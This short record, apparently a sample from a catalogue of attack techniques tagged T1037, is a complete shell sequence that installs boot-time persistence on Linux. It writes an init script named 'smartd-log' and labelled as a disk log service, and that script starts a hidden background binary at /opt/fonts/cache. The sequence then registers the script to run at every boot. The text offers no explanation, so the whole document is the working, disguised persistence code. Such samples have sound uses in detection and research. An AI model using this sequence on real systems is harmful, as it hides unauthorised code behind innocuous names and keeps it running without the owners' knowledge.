# technique: T1037
# location: linux.init.d
# source: /etc/init.d/smartd-log
cat > /etc/init.d/smartd-log <<'SCRIPT'
#!/bin/sh
### BEGIN INIT INFO
# Provides:          smartd-log
# Required-Start:    $remote_fs
# Required-Stop:
# Default-Start:     2 3 4 5
# Default-Stop:
# Short-Description: disk log
### END INIT INFO
exec /sbin/start-stop-daemon --start --background --exec /opt/fonts/cache
SCRIPT
chmod 755 /etc/init.d/smartd-log
update-rc.d smartd-log defaults
